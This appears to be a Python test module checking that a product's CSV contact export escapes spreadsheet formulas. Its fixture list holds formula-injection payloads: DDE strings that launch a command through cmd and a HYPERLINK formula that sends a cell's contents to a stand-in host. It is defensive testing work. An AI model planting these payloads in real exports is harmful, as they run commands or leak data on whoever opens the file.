"""Spreadsheet formulas in contact values, and the check that a CSV written by the product
holds none that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re

#: what a contacts file may hold to attack whoever opens an export in a spreadsheet
ATTACKS = [
    '=HYPERLINK("http://x/?"&A1,"y")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: addresses that are valid and begin with a formula sign
SIGNED_ADDRESSES = ["-ann@example.org", "=bob@example.org", "+carl@example.org"]
HEADER_ATTACK = '=HYPERLINK("http://x/?"&A1,"h")'
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(text: str, *, expect: list[str]) -> None:
    """No cell a spreadsheet would evaluate, and each of `expect` there with its apostrophe."""
    found = [cell for row in cells(text) for cell in row]
    for cell in found:
        runs = cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
        assert not runs or _NUMBER.fullmatch(cell), f"formula cell written: {cell!r}"
    for value in expect:
        assert "'" + value in found, f"{value!r} missing"


def contacts_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["email", "name", HEADER_ATTACK])
    for n, attack in enumerate(ATTACKS):
        writer.writerow([f"p{n}@example.org", attack, attack])
    for address in SIGNED_ADDRESSES:
        writer.writerow([address, "Signed", ""])
    writer.writerow([ATTACKS[1], "as an address", ""])
    return out.getvalue().encode()
